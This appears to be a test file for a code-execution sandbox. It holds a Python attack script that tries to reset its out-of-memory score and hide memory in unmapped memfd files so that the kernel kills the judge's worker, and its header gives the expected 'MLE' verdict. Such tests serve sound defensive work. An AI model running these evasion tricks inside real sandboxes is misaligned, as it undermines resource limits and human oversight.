# attack: lowers its mark for the memory killer and fills files that no process maps, to have the worker taken instead
# verdict: MLE
# after: nothing left
import os
import sys

try:
    with open("/proc/self/oom_score_adj", "w") as mark:
        mark.write("0")
    print("ESCAPED: chose its mark", file=sys.stderr)
except OSError:
    pass
MEBIBYTE = bytes(1 << 20)
# The only program that the box shows.
PYTHON = sys.executable
says, hears = os.pipe()[::-1]
if os.fork() == 0:
    for number in range(48):
        os.write(os.memfd_create("x", 0), MEBIBYTE)
    # Closes the pipe, and leaves a process with files and next to no memory of its own.
    os.execv(PYTHON, [PYTHON, "-ISc", "import time; time.sleep(60)"])
os.close(says)
os.read(hears, 1)
for number in range(15):
    os.write(os.memfd_create("x", 0), MEBIBYTE)
# So does this one; who asks for the last page is small as well.
FILL = "import os, time\nfor file in range(5, 10): os.write(file, bytes(1000000))\ntime.sleep(60)"
os.execv(PYTHON, [PYTHON, "-ISc", FILL])
